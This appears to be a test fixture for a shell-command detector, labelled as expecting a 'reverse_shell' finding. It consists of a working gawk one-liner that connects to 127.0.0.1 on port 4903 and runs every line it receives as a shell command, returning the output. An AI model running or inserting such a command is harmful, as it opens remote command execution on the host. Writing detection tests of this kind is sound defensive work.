# about: awk talks to the network itself, and runs each line
# expect: reverse_shell medium
# needs: gawk python3
peer 4903
timeout 6 gawk 'BEGIN{s="/inet/tcp/0/127.0.0.1/4903";while((s|&getline c)>0){if(c=="exit")break;while((c|getline)>0)print $0|&s;close(c)}close(s)}' || true
done_typing
